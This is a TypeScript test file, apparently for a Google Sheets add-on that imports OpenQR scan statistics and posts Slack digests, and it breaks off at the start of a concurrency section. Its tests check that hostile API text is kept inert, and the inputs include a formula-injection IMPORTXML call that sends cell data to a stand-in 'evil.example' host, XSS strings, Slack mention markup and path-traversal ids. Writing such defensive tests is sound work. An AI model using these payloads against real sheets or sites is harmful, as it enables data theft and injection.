// The fault suite, second half: hostile data from OpenQR, users' edits to the report sheets
// between runs, and concurrent runs and saves. Every case asserts what the user sees (against
// the rows of data-rows.ts), that the rows already in the sheets are intact, that no formula
// was written, and that neither the API key nor the Slack webhook appears anywhere.
import { describe, expect, it } from "vitest";
import type { CellValue } from "../../harness/emulator/index.ts";
import { FAKE_SLACK_PREFIX } from "../../harness/fake-slack/index.ts";
import type { CodeChoice, LastRun, SchedulePlan, Settings } from "../../src/shared/settings.ts";
import { CONCURRENCY_ROWS, DATA_AND_EDIT_ROWS, DATA_ROWS, MSG, SHEET_EDIT_ROWS } from "./data-rows.ts";
import {
  addHostileCode,
  allReportValues,
  expectFitted,
  expectInertSlackText,
  FORMULA_TEXT_MAX,
  hookApi,
  idReceived,
  isListRequest,
  loneSurrogates,
  REPORT_NAME_MAX,
  reportValues,
  rowsOf,
  SHEET_TEXT_MAX,
  scansIdsSince,
  slackShown,
} from "./data-world.ts";
import {
  assertNoFormulas,
  assertNothingLeaked,
  BREAKDOWN,
  createFaultWorld,
  DAILY,
  DAY_MS,
  dailySnapshot,
  EDITOR,
  expectArchiveKept,
  expectNoDuplicateRows,
  FAULT_SETTINGS,
  type FaultWorld,
  KEY,
  MONTHLY,
  OWNER,
  SLACK_WEBHOOK,
  SUMMARY,
  summaryStatuses,
} from "./fault-world.ts";
import { FAULT_ROWS, type FaultRow } from "./table.ts";

const HOUR_MS = 3_600_000;
/** The OpenQR window the fault world's settings ask for. */
const DAYS = FAULT_SETTINGS.days;

/** What every case ends with: no formula in the report sheets but the user's own, no secret anywhere. */
function expectCleanAndSecret(
  world: FaultWorld,
  outputs: unknown[] = [],
  usersFormulas: string[] = [],
): void {
  assertNoFormulas(world, usersFormulas);
  assertNothingLeaked(world, outputs);
}

/** The row's text quotes `message` exactly: the table says what the test asserts. */
function expectRowQuotes(row: FaultRow, message: string): void {
  expect(`${row.userSees} ${row.data}`).toContain(message);
}

const dayKey = (row: readonly CellValue[]) => `${(row[0] as Date).toISOString()}|${row[1]}`;

describe("the rows of this half of the table", () => {
  it("are complete, and distinct from each other and from the other half's", () => {
    expect(DATA_AND_EDIT_ROWS.length).toBeGreaterThanOrEqual(10);
    for (const row of DATA_AND_EDIT_ROWS) {
      for (const text of Object.values(row)) expect(text.trim()).not.toBe("");
    }
    const faults = [...DATA_AND_EDIT_ROWS, ...FAULT_ROWS].map((row) => row.fault);
    expect(new Set(faults).size).toBe(faults.length);
  });
});

describe("Data: hostile text in every string field OpenQR returns", () => {
  const LONG = "x".repeat(50_010);
  const LONG_EMOJI = "😀".repeat(25_005);
  const CASES: Array<{ name: string; text: string; row: FaultRow }> = [
    {
      name: "a formula (=)",
      text: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      row: DATA_ROWS.hostileText,
    },
    { name: "a formula (+)", text: "+1-555-0100", row: DATA_ROWS.hostileText },
    { name: "a formula (-)", text: "-2+3", row: DATA_ROWS.hostileText },
    { name: "a formula (@)", text: "@SUM(A1:A9)", row: DATA_ROWS.hostileText },
    {
      name: "HTML and script",
      text: '<script>alert("x")</script><img src=x onerror=alert(1)>',
      row: DATA_ROWS.hostileText,
    },
    { name: "Slack <!channel>", text: "<!channel> <!here> <!everyone>", row: DATA_ROWS.slackMarkup },
    { name: "Slack <@U123>", text: "hi <@U123> and <#C123>", row: DATA_ROWS.slackMarkup },
    { name: "a Slack link", text: "<https://evil.example|click me>", row: DATA_ROWS.slackMarkup },
    { name: "Slack *bold*", text: "*bold* _it_ ~gone~ `code` &amp;", row: DATA_ROWS.slackMarkup },
    { name: "50,010 characters", text: LONG, row: DATA_ROWS.longText },
    { name: "50,010 characters of emoji", text: LONG_EMOJI, row: DATA_ROWS.longText },
    { name: "=, then 50,009 characters", text: `=${LONG.slice(1)}`, row: DATA_ROWS.longText },
    {
      name: "control characters",
      text: "a\u0000b\u0001c\td\ne\rf\u001bg\u001fh",
      row: DATA_ROWS.controlCharacters,
    },
    {
      name: "a new line that fakes a digest line",
      text: "x\n*1,000,000 scans* on 2026-11-24",
      row: DATA_ROWS.controlCharacters,
    },
    { name: "a right-to-left override", text: "\u202egnp.exe", row: DATA_ROWS.rightToLeft },
    { name: "emoji", text: "😀 👍🏽 👨‍👩‍👧 🇬🇧", row: DATA_ROWS.emoji },
    { name: "emoji cut at 80 and 100 characters", text: "😀".repeat(60), row: DATA_ROWS.emoji },
  ];

  it.each(CASES)("$name: stored literally everywhere, inert in Slack", ({ text }) => {
    const world = createFaultWorld();
    world.gas.spreadsheet.name = text;
    const before = dailySnapshot(world);
    const good = addHostileCode(world, text);
    // A second such code that fails: its slug reaches the run report and the sidebar.
    const bad = addHostileCode(world, text);
    world.api.inject(bad.id, Array(10).fill({ status: 500, code: "server_error" }));

    world.fireSchedule();
    const report = world.lastRun();
    expect(report).toMatchObject({ ok: true, refreshed: 13, failed: 1, slack: { status: "posted" } });
    expectFitted(report.failures[0]!.slug, text, REPORT_NAME_MAX);
    expect(loneSurrogates(JSON.stringify(report))).toEqual([]);
    expectArchiveKept(world, before);

    // The report sheets: the text as sent (shortened only past what a cell holds).
    const daily = rowsOf(world, "daily", good.id);
    expect(daily).toHaveLength(DAYS);
    for (const row of daily) expectFitted(row[2], text, SHEET_TEXT_MAX);
    const [summary] = rowsOf(world, "summary", good.id);
    const shortUrl = `https://oqr.to/${text}`;
    expectFitted(summary![1], text, SHEET_TEXT_MAX);
    expectFitted(summary![2], shortUrl, SHEET_TEXT_MAX);
    expectFitted(summary![3], text, SHEET_TEXT_MAX);
    for (const top of summary!.slice(12, 15)) expectFitted(top, text, SHEET_TEXT_MAX);
    expect(summary![17]).toBe("ok");
    const breakdown = rowsOf(world, "breakdown", good.id);
    expect(breakdown.map((row) => row[2])).toEqual(["country", "device", "referrer"]);
    for (const row of breakdown) expectFitted(row[3], text, SHEET_TEXT_MAX);

    // Formulas and the sidebar: values, never formulas; too long only when past a cell.
    const codes = world.formula("OPENQR_CODES");
    const codeRow = (codes as { value: unknown[][] }).value.find((row) => row[0] === good.id)!;
    [codeRow[1], codeRow[3], codeRow[4]].forEach((cell) => {
      expectFitted(cell, text, FORMULA_TEXT_MAX);
    });
    expectFitted(codeRow[2], shortUrl, FORMULA_TEXT_MAX);
    const row = (world.formula("OPENQR_SUMMARY", good.id, DAYS) as { value: unknown[][] }).value[1]!;
    for (const cell of [row[0], row[2], row[7], row[8], row[9]]) expectFitted(cell, text, FORMULA_TEXT_MAX);
    const referrers = world.formula("OPENQR_BREAKDOWN", good.id, "referrer", DAYS) as { value: unknown[][] };
    expectFitted(referrers.value[1]![0], text, FORMULA_TEXT_MAX);
    const scans = world.formula("OPENQR_SCANS", [[good.id], [world.id("festival-gate")]], DAYS);
    expectFitted((scans as { value: unknown[][] }).value[0]![1], text, FORMULA_TEXT_MAX);
    const choices = world.call("listCodeChoices") as CodeChoice[];
    const choice = choices.find((c) => c.id === good.id)!;
    expect(choice.slug).toBe(text);
    expect(choice.label).toBe(text);
    const settings = world.call("getSettings") as Settings;
    expect(loneSurrogates(JSON.stringify(settings))).toEqual([]);

    // Slack: plain text, no mention, no link but the file's, no half emoji, no reversed line.
    const message = world.slack.messages.at(-1)!;
    expectInertSlackText(message, world.gas.spreadsheet.url);
    expect(message).toContain(`*${slackShown(text)}*: `);
    expect(message).toContain(`top country ${slackShown(text)} · top referrer ${slackShown(text)}`);
    expect(message.split("\n")[0]).toBe(
      `*OpenQR daily digest* · <${world.gas.spreadsheet.url}|${slackShown(text)}>`,
    );
    expectCleanAndSecret(world);
  });

  it("the rows say what the cases above check", () => {
    expect(DATA_ROWS.hostileText.userSees).toContain("never run as a formula");
    expect(DATA_ROWS.slackMarkup.userSees).toContain("<, > and & are escaped");
    expect(DATA_ROWS.longText.userSees).toContain("ending with");
    expect(DATA_ROWS.emoji.userSees).toContain("never on half of one");
    expect(DATA_ROWS.controlCharacters.userSees).toContain("each run of them becomes one space");
    expect(DATA_ROWS.rightToLeft.userSees).toContain("The Slack digest removes it");
    expect(new Set(CASES.map((c) => c.row))).toEqual(
      new Set([
        DATA_ROWS.hostileText,
        DATA_ROWS.slackMarkup,
        DATA_ROWS.longText,
        DATA_ROWS.controlCharacters,
        DATA_ROWS.rightToLeft,
        DATA_ROWS.emoji,
      ]),
    );
  });
});

describe("Data: odd code ids", () => {
  const ODD = ["a/b", "a?b=1&c=2", "a#frag", "100%", "%2F..%2F", "a..b", "../me", "x/../../v1/me", "ü é"];

  it.each(ODD)("%j: encoded in the URL, received exactly, and refreshed", (id) => {
    const world = createFaultWorld();
    const before = dailySnapshot(world);
    world.api.addCode({ id, slug: "odd-id", created_at: "2026-09-01T00:00:00Z" });
    const from = world.api.requests.length;
    const result = world.formula("OPENQR_SCANS", id, DAYS);
    expect(result.ok).toBe(true);
    expect((result as { value: unknown[][] }).value).toHaveLength(DAYS + 1);
    const request = world.api.requests[from]!;
    expect(request.url).toBe(`https://openqr.uk/v1/dynamic/${encodeURIComponent(id)}/scans?days=${DAYS}`);
    expect(idReceived(request)).toBe(id);

    world.gas.clock.advance(DAY_MS);
    const afterFormula = world.api.requests.length;
    expect(world.refreshNow()).toMatchObject({ ok: true, refreshed: 13, failed: 0 });
    expect(scansIdsSince(world, afterFormula)).toContain(id);
    expect(rowsOf(world, "daily", id).map((row) => row[2])).toEqual(Array(DAYS).fill("odd-id"));
    expect(summaryStatuses(world)[id]).toBe("ok");
    expect(DATA_ROWS.oddIds.userSees).toContain("receives exactly that id");
    expectArchiveKept(world, before);
    expectCleanAndSecret(world);
  });

  it.each([".", ".."])("%j: never sent (it would change the address), and said so", (id) => {
    const world = createFaultWorld();
    const before = dailySnapshot(world);
    world.api.addCode({ id, slug: "dots", created_at: "2026-09-01T00:00:00Z" });
    const from = world.api.requests.length;
    expect(world.formula("OPENQR_SCANS", id, DAYS)).toEqual({ ok: false, error: MSG.dotId(id) });
    expect(world.formula("OPENQR_TOTAL", [[id], [world.id("festival-gate")]])).toEqual({
      ok: false,
      error: MSG.dotId(id),
    });
    world.gas.clock.advance(DAY_MS);
    const report = world.refreshNow();
    expect(report).toMatchObject({
      ok: true,
      refreshed: 12,
      failures: [{ codeId: id, slug: "dots", reason: MSG.dotId(id) }],
    });
    expect(summaryStatuses(world)[id]).toBe(`failed: ${MSG.dotId(id)}`);
    // The list call and the festival gate's total were asked; never a path with a dot segment.
    const urls = world.api.requests.slice(from).map((r) => r.url);
    expect(urls.filter((url) => /\/\.\.?\//.test(url))).toEqual([]);
    expect(scansIdsSince(world, from)).not.toContain(id);
    expectRowQuotes(DATA_ROWS.dotIds, MSG.dotId(".."));
    expectArchiveKept(world, before);
    expectCleanAndSecret(world);
  });
});

describe("Data: a code deleted between the list call and its scans call", () => {
  it("fails that code with the reason, keeps its rows, refreshes the rest; the next run marks it deleted", () => {
    const world = createFaultWorld();
    const victim = world.id("spring-sale");
    const before = dailySnapshot(world);
    const victimRows = rowsOf(world, "daily", victim);
    const victimBreakdown = rowsOf(world, "breakdown", victim);
    world.gas.clock.advance(DAY_MS);
    hookApi(world, (request, reply) => {
      if (isListRequest(request)) world.api.removeCode(victim);
      return reply;
    });
    const report = world.refreshNow();
    expect(report).toMatchObject({
      ok: true,
      refreshed: 11,
      failed: 1,
      failures: [{ codeId: victim, slug: "spring-sale", reason: MSG.deletedMidRun(victim) }],
      message: MSG.oneFailed,
    });
    expect(summaryStatuses(world)[victim]).toBe(`failed: ${MSG.deletedMidRun(victim)}`);
    expect(rowsOf(world, "daily", victim)).toEqual(victimRows);
    expect(rowsOf(world, "breakdown", victim)).toEqual(victimBreakdown);
    expectArchiveKept(world, before);

    world.gas.clock.advance(HOUR_MS);
    expect(world.refreshNow()).toMatchObject({ ok: true, refreshed: 11, failed: 0 });
    expect(summaryStatuses(world)[victim]).toBe(MSG.statusDeleted);
    expect(rowsOf(world, "daily", victim)).toEqual(victimRows);
    expectRowQuotes(DATA_ROWS.deletedMidRun, MSG.oneFailed);
    expectRowQuotes(DATA_ROWS.deletedMidRun, MSG.statusDeleted);
    expect(DATA_ROWS.deletedMidRun.userSees).toContain(MSG.deletedMidRun("<id>"));
    expectCleanAndSecret(world);
  });
});

describe("Data: duplicate ids", () => {
  const twice = (id: string) => [[id], [id], [""]];

  it.each([
    ["OPENQR_SCANS", [DAYS]],
    ["OPENQR_ROLLUP", [DAYS]],
    ["OPENQR_SUMMARY", [DAYS]],
    ["OPENQR_BREAKDOWN", ["country", DAYS]],
  ] as const)("%s with an id twice in its range shows it once, asked once", (name, rest) => {
    const world = createFaultWorld();
    const id = world.id("festival-gate");
    const from = world.api.requests.length;
    const once = world.formula(name, id, ...rest);
    world.gas.caches.evictAll();
    const repeated = world.formula(name, twice(id), ...rest);
    expect(once.ok).toBe(true);
    expect(repeated).toEqual(once);
    expect(scansIdsSince(world, from)).toEqual([id, id]);
    expect(DATA_ROWS.duplicateIdsInRange.userSees).toContain(name);
    expectCleanAndSecret(world);
  });

  it("OPENQR_TOTAL answers every cell in the range's shape, asking once", () => {
    const world = createFaultWorld();
    const id = world.id("festival-gate");
    const from = world.api.requests.length;
    const result = world.formula("OPENQR_TOTAL", twice(id)) as { ok: true; value: unknown[][] };
    const total = world.scansBody(id, 1).scans.total;
    expect(result.value).toEqual([[total], [total], [""]]);
    expect(scansIdsSince(world, from)).toEqual([id]);
    expect(DATA_ROWS.duplicateIdsInRange.userSees).toContain("OPENQR_TOTAL answers every cell");
    expectCleanAndSecret(world);
  });

  const chosenTwice: Array<[string, (world: FaultWorld, a: string, b: string) => void]> = [
    ["saved twice from the sidebar", (world, a, b) => world.saveSettings({ codes: [a, a, b, ` ${a} `] })],
    [
      "in a settings value written earlier",
      (world, a, b) =>
        world.gas.properties.document.set(
          "openqr.reportSettings",
          JSON.stringify({ days: DAYS, codes: [a, b, a] }),
        ),
    ],
    [
      "listed twice by OpenQR",
      (world, a) => {
        world.saveSettings({ codes: "all" });
        hookApi(world, (request, reply) => {
          if (!isListRequest(request)) return reply;
          const body = JSON.parse(reply.body!) as { codes: Array<{ id: string }> };
          body.codes.push(body.codes.find((code) => code.id === a)!);
          return { ...reply, body: JSON.stringify(body) };
        });
      },
    ],
  ];

  it.each(chosenTwice)("a code %s is refreshed once, with one row per day", (_how, choose) => {
    const world = createFaultWorld();
    const [a, b] = [world.id("festival-gate"), world.id("spring-sale")];
    const before = dailySnapshot(world);
    choose(world, a, b);
    world.gas.clock.advance(DAY_MS);
    const from = world.api.requests.length;
    const report = world.refreshNow();
    expect(report.ok).toBe(true);
    expect(scansIdsSince(world, from).filter((id) => id === a)).toEqual([a]);
    expect(rowsOf(world, "summary", a)).toHaveLength(1);
    expect(rowsOf(world, "daily", a)).toHaveLength(DAYS + 1);
    expectNoDuplicateRows(world);
    expectArchiveKept(world, before);
    expect(DATA_ROWS.duplicateChosenCodes.userSees).toContain("refreshed once");
    expectCleanAndSecret(world);
  });
});

describe("Data: 1,000 codes", () => {
  it("the refresh covers them over two runs, stalest first, keeping every row and duplicating none", () => {
    const world = createFaultWorld({ codeCount: 1000, apiDelayMs: 6000, refresh: false });
    world.fireSchedule();
    const first = world.lastRun();
    expect(first).toMatchObject({ ok: true, refreshed: 800, failed: 0, skippedForTime: 200 });
    expect(first.message).toBe(MSG.overTime(800, 200));
    const statuses = summaryStatuses(world);
    const waiting = Object.keys(statuses).filter((id) => statuses[id] === MSG.statusWaiting);
    expect(waiting).toHaveLength(200);
    expect(Object.values(statuses).filter((status) => status === "ok")).toHaveLength(800);

    const before = dailySnapshot(world);
    world.gas.clock.advance(HOUR_MS);
    const from = world.api.requests.length;
    world.fireSchedule();
    expect(world.lastRun()).toMatchObject({ ok: true, refreshed: 800, skippedForTime: 200 });
    // The 200 that waited go first.
    expect(new Set(scansIdsSince(world, from).slice(0, 200))).toEqual(new Set(waiting));
    expect(Object.values(summaryStatuses(world)).filter((s) => s === MSG.statusWaiting)).toHaveLength(200);
    expect(
      new Set(
        dailySnapshot(world)
          .slice(1)
          .map((row) => row[1]),
      ).size,
    ).toBe(1000);
    expectArchiveKept(world, before);
    expectRowQuotes(DATA_ROWS.thousandCodesRefresh, MSG.overTime(800, 200));
    expectRowQuotes(DATA_ROWS.thousandCodesRefresh, MSG.statusWaiting);
    expectCleanAndSecret(world);
  });

  it("a formula given all 1,000 ids says how many it takes, asking nothing; OPENQR_CODES lists all", () => {
    const world = createFaultWorld({ codeCount: 1000, refresh: false });
    const ids = world.api.codes.map((code) => [code.id]);
    const from = world.api.requests.length;
    for (const name of ["OPENQR_SCANS", "OPENQR_ROLLUP", "OPENQR_SUMMARY"]) {
      expect(world.formula(name, ids, DAYS)).toEqual({ ok: false, error: MSG.tooManyIds(1000) });
    }
    expect(world.formula("OPENQR_TOTAL", ids)).toEqual({ ok: false, error: MSG.tooManyIds(1000) });
    expect(world.api.requests.length).toBe(from);
    const codes = world.formula("OPENQR_CODES") as { ok: true; value: unknown[][] };
    expect(codes.value).toHaveLength(1001);
    expectRowQuotes(DATA_ROWS.thousandCodesFormula, MSG.tooManyIds(1000));
    expectCleanAndSecret(world);
  });

  it("the sidebar lists all 1,000, refuses more than 500 ticked, and warns that hourly does not fit", () => {
    const world = createFaultWorld({ codeCount: 1000, refresh: false });
    const choices = world.call("listCodeChoices") as CodeChoice[];
    expect(choices).toHaveLength(1000);
    expect(new Set(choices.map((c) => c.id)).size).toBe(1000);
    const ticked = choices.slice(0, 501).map((c) => c.id);
    const input = { ...FAULT_SETTINGS, codes: ticked };
    const settingsBefore = world.gas.properties.document.get("openqr.reportSettings");
    expect(world.tryCall("saveSettings", [input])).toEqual({ ok: false, error: MSG.tooManyChosen });
    expect(world.gas.properties.document.get("openqr.reportSettings")).toBe(settingsBefore);
    const plan = world.call("estimateSchedule", [{ ...FAULT_SETTINGS, codes: "all" }]) as SchedulePlan;
    expect(plan).toMatchObject({
      codes: 1000,
      fits: false,
      suggestion: "every6h",
      message: MSG.hourlyTooMuch,
    });
    expect(world.call("saveSettings", [{ ...FAULT_SETTINGS, codes: ticked.slice(0, 250) }])).toMatchObject({
      codes: ticked.slice(0, 250),
    });
    expectRowQuotes(DATA_ROWS.thousandCodesSidebar, MSG.tooManyChosen);
    expectRowQuotes(DATA_ROWS.thousandCodesSidebar, MSG.hourlyTooMuch);
    expectCleanAndSecret(world);
  });
});

describe("Sheet edits by users between runs", () => {
  /** A world one day after its first refresh, so the next run moves the window. */
  const nextDay = () => {
    const world = createFaultWorld();
    world.gas.clock.advance(DAY_MS);
    return world;
  };

  it("sorted by Scans: put back in order (day, then slug), no row lost or duplicated", () => {
    const world = nextDay();
    const before = dailySnapshot(world);
    const sheet = world.sheet(DAILY);
    const sorted = [before[0]!, ...before.slice(1).sort((a, b) => (b[3] as number) - (a[3] as number))];
    sorted.forEach((row, r) => {
      row.forEach((value, c) => {
        sheet.write(r + 1, c + 1, { value });
      });
    });
    expect(world.refreshNow()).toMatchObject({ ok: true, refreshed: 12, notes: [MSG.outOfOrder] });
    const after = dailySnapshot(world).slice(1);
    const keys = after.map((row) => `${(row[0] as Date).toISOString()}|${String(row[2]).toLowerCase()}`);
    expect(keys).toEqual([...keys].sort());
    expect(after).toHaveLength(before.length - 1 + 12);
    expectArchiveKept(world, before);
    expect(SHEET_EDIT_ROWS.sorted.userSees).toContain("back in order");
    expectCleanAndSecret(world);
  });

  it("filtered: hidden rows are not modelled; the refresh reads and writes only through calls that include them", () => {
    const world = nextDay();
    const before = dailySnapshot(world);
    world.gas.resetCalls();
    expect(world.refreshNow().ok).toBe(true);
    const sheetCalls = Object.keys(world.gas.calls).filter((name) => /^(Sheet|Range)\./.test(name));
    // Each of these sees hidden rows as any other; nothing here sorts, appends or reads what is shown.
    const filterBlind = [
      "Sheet.getDataRange",
      "Sheet.getLastRow",
      "Sheet.getLastColumn",
      "Sheet.getSheetId",
      "Range.getValues",
      "Range.getFormulasR1C1",
      "Range.setFormulasR1C1",
      "Sheet.getRangeList",
      "RangeList.setFormulaR1C1",
      "Sheet.getRange",
      "Range.setValues",
      "Range.setNumberFormats",
      "Sheet.getMaxRows",
      "Sheet.getMaxColumns",
      "Sheet.insertRowsAfter",
      "Sheet.insertColumnsAfter",
      "Sheet.getCharts",
      "Sheet.updateChart",
      "Sheet.insertChart",
      "Sheet.newChart",
      "Range.getA1Notation",
      "Sheet.getName",
      // The run log's row: added below its last row, hidden or not.
      "Sheet.appendRow",
    ];
    expect(sheetCalls.filter((name) => !filterBlind.includes(name))).toEqual([]);
    expect(SHEET_EDIT_ROWS.filtered.userSees).toContain("doesn't model hidden rows");
    expectArchiveKept(world, before);
    expectCleanAndSecret(world);
  });

  it("rows deleted: those inside the window are refilled, older ones stay deleted, the rest kept", () => {
    const world = nextDay();
    const before = dailySnapshot(world);
    const sheet = world.sheet(DAILY);
    // The 12 rows of the oldest day (it leaves the window today) and 2 rows inside the window.
    const oldest = before.slice(1, 13);
    const inside = before.slice(40, 42);
    sheet.deleteRows(2, 12);
    sheet.deleteRows(41 - 12, 2);
    expect(world.refreshNow().ok).toBe(true);
    const after = new Map(
      dailySnapshot(world)
        .slice(1)
        .map((row) => [dayKey(row), row]),
    );
    for (const row of oldest) expect(after.has(dayKey(row))).toBe(false);
    for (const row of inside) expect(after.get(dayKey(row))).toEqual(row);
    const kept = before.slice(13).filter((row) => !inside.includes(row));
    for (const row of kept) expect(after.get(dayKey(row))?.slice(0, 3)).toEqual(row.slice(0, 3));
    expect(after.size).toBe(before.length - 1 - 12 + 12);
    expectNoDuplicateRows(world);
    expect(SHEET_EDIT_ROWS.rowsDeleted.userSees).toContain("Older rows stay deleted");
    expectCleanAndSecret(world);
  });

  it("a column added right of the add-on's: kept, moving with its row", () => {
    const world = nextDay();
    const before = dailySnapshot(world);
    const sheet = world.sheet(DAILY);
    const festival = world.id("festival-gate");
    sheet.write(1, 5, { value: "Note" });
    // Its newest row: inside the window, so the refresh rewrites it.
    const noted = before.map((row) => row[1]).lastIndexOf(festival);
    sheet.write(noted + 1, 5, { value: "gate opened" });
    const formula = `=D${noted + 1}*2`;
    sheet.write(noted + 1, 6, { value: formula, formula });
    // Deleting the oldest day's rows moves every row when the refresh refills nothing there.
    sheet.deleteRows(2, 12);
    expect(world.refreshNow().ok).toBe(true);
    const after = dailySnapshot(world);
    expect(after[0]!.slice(0, 5)).toEqual(["Day", "Code ID", "Slug", "Scans", "Note"]);
    const rows = after.filter((row) => row[4] === "gate opened");
    expect(rows.map((row) => row.slice(0, 3))).toEqual([before[noted]!.slice(0, 3)]);
    // Its formula moved with it and reads its own row.
    const at = after.findIndex((row) => row[4] === "gate opened");
    expect(world.gas.spreadsheet.sheetFormulas(DAILY)[at]![5]).toBe(`=D${at + 1}*2`);
    expect(at).not.toBe(noted);
    expectNoDuplicateRows(world);
    expect(SHEET_EDIT_ROWS.columnAddedRight.userSees).toContain("a formula keeps reading its own row");
    expectCleanAndSecret(world, [], [`=D${at + 1}*2`]);
  });

  const HEADERS = {
    [DAILY]: { last: "D", first: "Day", lastName: "Scans", slug: 3 },
    [BREAKDOWN]: { last: "F", first: "Code ID", lastName: "Window (days)", slug: 2 },
    [SUMMARY]: { last: "T", first: "Code ID", lastName: "Group", slug: 2 },
  } as const;
  const moves: Array<[string, string, (world: FaultWorld, name: string) => void]> = [];
  for (const name of [DAILY, BREAKDOWN, SUMMARY]) {
    moves.push(
      [name, "a column inserted before column A", (world, sheet) => world.sheet(sheet).insertColumns(1, 1)],
      [
        name,
        "a column with a header and values inserted before column A",
        (world, sheet) => {
          const model = world.sheet(sheet);
          model.insertColumns(1, 1);
          model.write(1, 1, { value: "Mine" });
          model.write(2, 1, { value: 42 });
        },
      ],
      [
        name,
        "a column inserted among the add-on's",
        (world, sheet) => world.sheet(sheet).insertColumns(2, 1),
      ],
      [
        name,
        "the Slug column deleted",
        (world, sheet) => world.sheet(sheet).deleteColumns(HEADERS[sheet as keyof typeof HEADERS].slug, 1),
      ],
    );
  }
  moves.push([
    DAILY,
    "a column inserted before column A and every header renamed",
    (world, sheet) => {
      const model = world.sheet(sheet);
      model.insertColumns(1, 1);
      ["When", "Code", "Name", "Count"].forEach((value, i) => {
        model.write(1, i + 2, { value });
      });
    },
  ]);

  it.each(moves)("%s, %s: the refresh stops before writing, and says what to do", (name, _edit, edit) => {
    const world = nextDay();
    edit(world, name);
    const before = allReportValues(world);
    const archive = dailySnapshot(world);
    const statuses = summaryStatuses(world);
    const report = world.refreshNow();
    const { last, first, lastName } = HEADERS[name as keyof typeof HEADERS];
    const message = MSG.columnsMoved(name, last, first, lastName);
    expect(report).toMatchObject({ ok: false, refreshed: 0, message });
    expect(world.lastRun().message).toBe(message);
    expect(allReportValues(world)).toBe(before);
    expect(dailySnapshot(world)).toEqual(archive);
    expect(summaryStatuses(world)).toEqual(statuses);
    // Renamed, the sheet is named by its current name.
    world.sheet(name).name = `${name} (mine)`;
    expect(world.refreshNow().message).toBe(MSG.columnsMoved(`${name} (mine)`, last, first, lastName));
    expectRowQuotes(SHEET_EDIT_ROWS.columnInsertedBefore, MSG.columnsMoved(DAILY, "D", "Day", "Scans"));
    expectCleanAndSecret(world);
  });

  it("after moving the column to the right, the refresh works again and keeps it", () => {
    const world = nextDay();
    const before = dailySnapshot(world);
    const sheet = world.sheet(DAILY);
    sheet.insertColumns(1, 1);
    sheet.write(1, 1, { value: "Mine" });
    expect(world.refreshNow().ok).toBe(false);
    sheet.deleteColumns(1, 1);
    sheet.write(1, 5, { value: "Mine" });
    expect(world.refreshNow()).toMatchObject({ ok: true, refreshed: 12 });
    expect(dailySnapshot(world)[0]!.slice(0, 5)).toEqual(["Day", "Code ID", "Slug", "Scans", "Mine"]);
    expectArchiveKept(
      world,
      before.map((row, i) => (i === 0 ? [...row.slice(0, 4), "Mine"] : row)),
    );
    expect(SHEET_EDIT_ROWS.columnInsertedBefore.whatToDo).toContain("Move your columns to the right");
    expectCleanAndSecret(world);
  });

  it("a header renamed: the refresh works and keeps the user's header", () => {
    const world = nextDay();
    const before = dailySnapshot(world);
    world.sheet(DAILY).write(1, 4, { value: "Scans (all)" });
    world.sheet(SUMMARY).write(1, 2, { value: "Name" });
    world.sheet(BREAKDOWN).write(1, 4, { value: "Top value" });
    expect(world.refreshNow()).toMatchObject({ ok: true, refreshed: 12 });
    expect(dailySnapshot(world)[0]!.slice(0, 4)).toEqual(["Day", "Code ID", "Slug", "Scans (all)"]);
    expect(reportValues(world, "summary")[0]![1]).toBe("Name");
    expect(reportValues(world, "breakdown")[0]![3]).toBe("Top value");
    expect(rowsOf(world, "summary", world.id("festival-gate"))[0]![1]).toBe("festival-gate");
    expectArchiveKept(
      world,
      before.map((row, i) => (i === 0 ? [...row.slice(0, 3), "Scans (all)"] : row)),
    );
    expect(SHEET_EDIT_ROWS.headerRenamed.userSees).toContain("keeps your header text");
    expectCleanAndSecret(world);
  });

  it("the sheets renamed: found by their tag, refreshed under the new names, no second copy", () => {
    const world = nextDay();
    const before = dailySnapshot(world);
    for (const name of [DAILY, BREAKDOWN, SUMMARY, MONTHLY]) world.sheet(name).name = `${name} (renamed)`;
    expect(world.refreshNow()).toMatchObject({ ok: true, refreshed: 12, notes: [] });
    expect(world.gas.spreadsheet.sheets.map((s) => s.name)).toEqual([
      "Sheet1",
      `${SUMMARY} (renamed)`,
      `${DAILY} (renamed)`,
      `${BREAKDOWN} (renamed)`,
      `${MONTHLY} (renamed)`,
      "OpenQR Runs",
    ]);
    expect(dailySnapshot(world)).toHaveLength(before.length + 12);
    expectArchiveKept(world, before);
    expect(SHEET_EDIT_ROWS.sheetRenamed.userSees).toContain("doesn't create a second copy");
    expectCleanAndSecret(world);
  });

  it.each([DAILY, BREAKDOWN, SUMMARY])(
    "%s deleted: created again, the report says so, the others kept",
    (name) => {
      const world = nextDay();
      const before = dailySnapshot(world);
      const others = [DAILY, BREAKDOWN, SUMMARY].filter((n) => n !== name);
      world.gas.spreadsheet.removeSheet(world.sheet(name));
      const report = world.refreshNow();
      const note = name === DAILY ? MSG.dailyRecreated(DAYS) : MSG.recreated(name);
      expect(report).toMatchObject({ ok: true, refreshed: 12, notes: [note] });
      expect(world.gas.spreadsheet.sheetByName(name)).toBeDefined();
      for (const other of others) expect(world.gas.spreadsheet.sheetByName(other)).toBeDefined();
      if (name === DAILY) {
        expect(dailySnapshot(world)).toHaveLength(1 + DAYS * 12);
        expectNoDuplicateRows(world);
      } else {
        expectArchiveKept(world, before);
      }
      expect(Object.values(summaryStatuses(world))).toEqual(Array(12).fill("ok"));
      expectRowQuotes(
        SHEET_EDIT_ROWS.sheetDeleted,
        name === DAILY ? MSG.dailyRecreated(DAYS) : MSG.recreated(SUMMARY),
      );
      expectCleanAndSecret(world);
    },
  );

  it.each([
    ["a number outside the window", 2, 999_999, true],
    ["text outside the window", 2, "lots", true],
    ["a number inside the window", 80, 999_999, false],
    ["text inside the window", 80, "lots", false],
  ] as const)(
    "%s typed into Scans: kept outside the window, corrected inside it",
    (_what, row, typed, kept) => {
      const world = nextDay();
      const before = dailySnapshot(world);
      const sheet = world.sheet(DAILY);
      const target = before[row - 1]!;
      sheet.write(row, 4, { value: typed });
      expect(world.refreshNow().ok).toBe(true);
      const after = dailySnapshot(world)
        .slice(1)
        .find((r) => dayKey(r) === dayKey(target))!;
      // Los Angeles midnight (08:00 UTC) falls on the API's (UTC) day.
      const day = (target[0] as Date).toISOString().slice(0, 10);
      expect(after[3]).toBe(kept ? typed : world.api.scansOn(target[1] as string, day).n);
      expectArchiveKept(world, before);
      expect(SHEET_EDIT_ROWS.scansTyped.userSees).toContain(
        kept ? "Outside the window it's kept" : "sets it back",
      );
      expectCleanAndSecret(world);
    },
  );
});

describe("Concurrency", () => {
